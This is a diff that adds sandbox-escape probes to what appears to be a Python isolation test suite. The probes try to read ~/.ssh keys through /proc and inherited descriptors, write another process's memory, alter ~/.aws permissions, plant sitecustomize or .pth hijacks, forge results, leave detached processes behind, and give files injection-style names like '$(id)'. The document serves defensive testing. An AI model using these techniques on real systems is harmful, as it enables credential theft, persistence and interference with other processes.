@@ -525,4 +525,328 @@ ATTACKS = (
         os.symlink(args['home'] + '/.ssh', 'out')
         return 'set; see the host'
     """, plain="skip", bash=False, status="ok"),
+    # ---- less common ways
+    Attack("reads through every descriptor that it inherited", """
+        for fd in range(0, 256):
+            try:
+                where = os.readlink(f'/proc/self/fd/{fd}')
+            except OSError:
+                continue
+            if where.startswith('/') and args['home'] in where:
+                return 'THROUGH'
+        return 'none leads there'
+    """, plain="stopped"),
+    Attack("leaves its root through a descriptor of a folder", """
+        for fd in range(0, 256):
+            try:
+                up = os.open('../../../../../../../..' + args['home'] + '/.ssh/id_ed25519', os.O_RDONLY, dir_fd=fd)
+            except OSError:
+                continue
+            return 'THROUGH' if CANARY.encode() in os.read(up, 100) else 'empty'
+        return 'none leads there'
+    """, plain="stopped"),
+    Attack("reads a key through its own tasks", "return read('/proc/self/task/%d/root%s/.ssh/id_ed25519' % (os.getpid(), args['home']))"),
+    Attack("reads a key through /proc/self/map_files", """
+        for name in os.listdir('/proc/self/map_files'):
+            if args['home'] in os.readlink('/proc/self/map_files/' + name):
+                return 'THROUGH'
+        return 'not there'
+    """, plain="stopped"),
+    Attack("enters every process's root", """
+        for pid in os.listdir('/proc'):
+            if pid.isdigit():
+                try:
+                    if CANARY.encode() in open(f"/proc/{pid}/root{args['home']}/.ssh/id_ed25519", 'rb').read():
+                        return 'THROUGH'
+                except OSError:
+                    pass
+        return 'not found'
+    """),
+    Attack("writes to another's memory through /proc", """
+        for pid in os.listdir('/proc'):
+            if pid.isdigit() and int(pid) not in (os.getpid(), 1, os.getppid()):
+                try:
+                    open(f'/proc/{pid}/mem', 'r+b').close()
+                    if int(pid) == args['victim']:
+                        return 'THROUGH'
+                except OSError:
+                    pass
+        return 'none'
+    """),
+    Attack("makes the victim the first to be killed", """
+        fd = os.open(f"/proc/{args['victim']}/oom_score_adj", os.O_WRONLY)
+        os.write(fd, b'1000')
+        return 'THROUGH'
+    """),
+    Attack("saves itself from the memory killer", """
+        fd = os.open('/proc/self/oom_score_adj', os.O_WRONLY)
+        os.write(fd, b'-1000')
+        return 'THROUGH'
+    """, plain="stopped"),
+    Attack("changes another's priority", """
+        os.setpriority(os.PRIO_PROCESS, args['victim'], 19)
+        return 'THROUGH'
+    """, plain="skip"),
+    Attack("changes another's processors", """
+        os.sched_setaffinity(args['victim'], {min(os.sched_getaffinity(0))})
+        return 'THROUGH'
+    """, plain="skip"),
+    Attack("limits another", """
+        import resource
+        resource.prlimit(args['victim'], resource.RLIMIT_NOFILE, (5, 5))
+        return 'THROUGH'
+    """, plain="skip"),
+    Attack("signals by a pidfd", """
+        fd = os.pidfd_open(args['victim'])
+        signal.pidfd_send_signal(fd, signal.SIGCONT)
+        return 'THROUGH'
+    """),
+    Attack("signals its group and session", """
+        os.killpg(0, signal.SIGCONT)
+        os.killpg(os.getpgid(args['victim']), signal.SIGCONT)
+        return 'THROUGH'
+    """),
+    Attack("asks another for a signal on input", """
+        import fcntl
+        r, w = os.pipe()
+        fcntl.fcntl(r, fcntl.F_SETOWN, args['victim'])
+        fcntl.fcntl(r, 10, signal.SIGKILL)
+        fcntl.fcntl(r, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
+        os.write(w, b'x')
+        time.sleep(0.1)
+        return 'sent; see the host'
+    """, plain="skip"),
+    Attack("reads a queue of the host", """
+        b = ctypes.create_string_buffer(64)
+        queue = libc.syscall(68, args['queue'], 0)
+        return 'THROUGH' if queue >= 0 and libc.syscall(70, queue, b, 32, 0, 0o4000) >= 0 else 'none'
+    """),
+    Attack("leaves memory that outlives it", """
+        shm = libc.syscall(29, 0x5a7c4e1, 1 << 20, 0o1666)
+        return 'made; see the host' if shm >= 0 else errno.errorcode[ctypes.get_errno()]
+    """, plain="skip"),
+    Attack("opens a packet socket of the old kind", """
+        socket.socket(socket.AF_INET, 10, 0x300)
+        return 'THROUGH'
+    """, plain="stopped"),
+    Attack("talks to the host over vsock", """
+        s = socket.socket(40, socket.SOCK_STREAM)
+        return 'THROUGH'
+    """),
+    Attack("asks the kernel over netlink", """
+        s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 16)
+        return 'THROUGH'
+    """),
+    Attack("uses the kernel's ciphers", """
+        s = socket.socket(38, socket.SOCK_SEQPACKET)
+        s.bind(('hash', 'sha256'))
+        return 'THROUGH'
+    """, plain="stopped"),
+    Attack("uses rare kinds of sockets", """
+        for family in (3, 4, 5, 9, 11, 15, 18, 21, 23, 29, 30, 31, 33, 36, 37, 39, 41, 42, 43, 44, 45):
+            try:
+                socket.socket(family, socket.SOCK_DGRAM)
+                return 'THROUGH'
+            except OSError:
+                pass
+        return 'none'
+    """, plain="skip"),
+    Attack("asks a name server", """
+        for server in ('127.0.0.53', '8.8.8.8', '1.1.1.1'):
+            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+            s.settimeout(0.3)
+            try:
+                s.sendto(b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\7example\\3org\\0\\0\\1\\0\\1', (server, 53))
+                s.recv(512)
+                return 'THROUGH'
+            except OSError:
+                pass
+        return 'nobody answered'
+    """, plain="skip"),
+    Attack("resolves a name by the system", """
+        socket.getaddrinfo('secret.example.org', 443)
+        return 'THROUGH'
+    """, plain="skip"),
+    Attack("connects over IPv6", """
+        s = socket.create_connection(('::ffff:127.0.0.1', args['tcp']), 2)
+        return 'THROUGH'
+    """),
+    Attack("passes a descriptor to a server", """
+        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        s.connect(args['unix'])
+        socket.send_fds(s, [b'x'], [0])
+        return 'THROUGH'
+    """),
+    syscall("watches the file system", 300, "0", "0", plain="stopped"),
+    syscall("changes a mount", 442, "-100", "b'/'", "0", "0", "0", plain="stopped"),
+    syscall("moves a mount", 429, "-100", "b'/tmp'", "-100", "b'/'", "0", plain="stopped"),
+    syscall("takes out its root", 155, "b'/tmp'", "b'/tmp'", plain="stopped"),
+    syscall("names the machine", 170, "b'evil'", "4", plain="stopped"),
+    syscall("turns on accounting", 163, "b'/tmp/x'", plain="stopped"),
+    syscall("turns on swap", 167, "b'/tmp/x'", "0", plain="stopped"),
+    syscall("restarts the machine", 169, "0", "0", "0", "0", plain="skip"),
+    syscall("uses ports of the processor", 172, "3", plain="stopped"),
+    syscall("moves pages of a process", 279, "args['victim']", "0", "0", "0", "0", "0"),
+    syscall("advises on another's memory", 440, "-1", "0", "0", "0", "0", plain="skip"),
+    Attack("sets an extended attribute with a capability", """
+        open('program', 'w').write('x')
+        os.setxattr('program', 'security.capability', bytes.fromhex('0100000201000000000000000000000000000000'))
+        return 'THROUGH'
+    """, plain="stopped"),
+    Attack("makes a program that runs as its owner", """
+        import shutil
+        shutil.copy('/bin/true', 'setuid')
+        os.chmod('setuid', 0o6755)
+        mode = os.stat('setuid').st_mode & 0o6000
+        return 'made; own user only' if mode else 'refused'
+    """, plain="stopped"),
+    Attack("makes a file too large by seeking", """
+        fd = os.open('sparse', os.O_RDWR | os.O_CREAT)
+        os.ftruncate(fd, 1 << 40)
+        return 'THROUGH'
+    """),
+    Attack("reserves a large file", """
+        fd = os.open('reserved', os.O_RDWR | os.O_CREAT)
+        os.posix_fallocate(fd, 0, 64 << 20)
+        return 'THROUGH'
+    """),
+    Attack("dumps its core into the folder", """
+        import resource
+        if resource.getrlimit(resource.RLIMIT_CORE)[1] != 0:
+            return 'THROUGH'
+        return 'no core'
+    """),
+    Attack("makes deep folders and long names", """
+        here = os.open('.', os.O_RDONLY)
+        os.makedirs('out', exist_ok=True)
+        os.chdir('out')
+        for _ in range(600):
+            os.mkdir('d' * 200)
+            os.chdir('d' * 200)
+        open('deep', 'w').write('x')
+        os.fchdir(here)
+        return 'made; see the host'
+    """, plain="skip", bash=False, status="ok"),
+    Attack("gives artifacts hostile names", """
+        os.makedirs('out', exist_ok=True)
+        for name in ('..evil', '-rf', 'new\\nline', '\\x1b]0;evil\\x07', '\\u202egnp.exe', 'a\\\\..\\\\b', 'CON', ' ', '~', '$(id)'):
+            open('out/' + name, 'w').write('x')
+        open(b'out/\\xff\\xfe', 'w').write('x')
+        return 'made; see the host'
+    """, plain="skip", bash=False, status="ok"),
+    Attack("changes artifacts while they are read", """
+        os.makedirs('out', exist_ok=True)
+        if os.fork() == 0:
+            os.setsid()
+            while True:
+                for victim in (args['home'] + '/.ssh/id_ed25519', args['outside']):
+                    try:
+                        os.symlink(victim, 'out/.swap')
+                        os.rename('out/.swap', 'out/a')
+                    except OSError:
+                        pass
+        time.sleep(0.1)
+        return 'made; see the host'
+    """, plain="skip", bash=False, status="ok"),
+    Attack("makes artifacts unreadable", """
+        os.makedirs('out/locked', exist_ok=True)
+        open('out/locked/x', 'w').write('x')
+        open('out/secret', 'w').write('x')
+        os.chmod('out/secret', 0)
+        os.chmod('out/locked', 0)
+        return 'made; see the host'
+    """, plain="skip", bash=False, status="ok"),
+    Attack("leaves a device and a socket as artifacts", """
+        os.makedirs('out', exist_ok=True)
+        try:
+            os.mknod('out/null', 0o20666, os.makedev(1, 3))
+            return 'THROUGH'
+        except OSError:
+            pass
+        try:
+            socket.socket(socket.AF_UNIX).bind('out/sock')
+        except OSError:
+            pass
+        return 'made; see the host'
+    """, plain="skip", bash=False, status="ok"),
+    Attack("forges two results", """
+        for fd in range(3, 64):
+            try:
+                os.write(fd, b'+{"status": "ok", "result": "THROUGH"}{"status": "ok", "result": "x"}')
+            except OSError:
+                pass
+        return 'the real one'
+    """, plain="skip", bash=False),
+    Attack("names itself in the place of a module", """
+        for folder in ('/tmp', '.', os.path.dirname(__file__)):
+            for name in ('sitecustomize.py', 'usercustomize.py', 'json.py', 'evil.pth'):
+                try:
+                    open(os.path.join(folder, name), 'w').write('raise SystemExit(99)')
+                except OSError:
+                    pass
+        return 'made; the next run sees nothing of it'
+    """, plain="skip", bash=False, status="ok"),
+    Attack("starts a tree of sessions", """
+        for _ in range(6):
+            if os.fork() == 0:
+                os.setsid()
+                if os.fork():
+                    os._exit(0)
+                os.execve('/bin/sh', ['sh', '-c', 'trap "" TERM HUP INT; sleep 986; :', args['marker']], {})
+        time.sleep(0.2)
+        return 'started; see the host'
+    """, plain="skip"),
+    Attack("adopts orphans", """
+        libc.prctl(36, 1, 0, 0, 0)
+        if os.fork() == 0:
+            if os.fork():
+                os._exit(0)
+            os.execve('/bin/sh', ['sh', '-c', 'sleep 985; :', args['marker']], {})
+        time.sleep(0.2)
+        os._exit(3)
+    """, plain="skip"),
+    Attack("waits for an alarm after its death", """
+        if os.fork() == 0:
+            os.setsid()
+            signal.signal(signal.SIGALRM, lambda *_: None)
+            signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)
+            os.execve('/bin/sh', ['sh', '-c', 'while :; do sleep 1; done', args['marker']], {})
+        return 'started; see the host'
+    """, plain="skip"),
+    Attack("prints control characters", """
+        for _ in range(100):
+            os.write(1, b'\\x1b]52;c;ZXZpbA==\\x07\\x1b[2J\\x00\\xff' * 20)
+        return 'printed'
+    """, plain="stopped", bash=False, status="ok"),
+    Attack("locks the files of the host", """
+        import fcntl
+        f = open(args['outside'], 'r+')
+        fcntl.flock(f, fcntl.LOCK_EX)
+        return 'THROUGH'
+    """),
+    Attack("sets an attribute outside", """
+        os.setxattr(args['outside'], 'user.evil', b'x')
+        return 'THROUGH'
+    """, plain="skip"),
+    Attack("changes times outside", """
+        os.utime(args['outside'], (1, 1))
+        return 'THROUGH' if os.stat(args['outside']).st_mtime == 1 else 'only pretended'
+    """),
+    Attack("changes modes outside", """
+        os.chmod(args['outside'], 0o777)
+        os.chmod(args['home'] + '/.aws', 0)
+        changed = os.stat(args['outside']).st_mode & 0o777 == 0o777
+        return 'THROUGH' if changed else 'only pretended'
+    """),
+    Attack("changes modes through a descriptor", """
+        fd = os.open(__file__, os.O_RDONLY)
+        before = os.fstat(fd).st_mode
+        os.fchmod(fd, 0o606)
+        return 'THROUGH' if os.fstat(fd).st_mode != before else 'only pretended'
+    """, bash=False),
+    Attack("swaps two files across the border", """
+        open('mine', 'w').write('evil')
+        r = libc.syscall(316, -100, b'mine', -100, args['outside'].encode(), 2)
+        return 'THROUGH' if r == 0 else errno.errorcode[ctypes.get_errno()]
+    """, plain="skip"),
 )  # fmt: skip
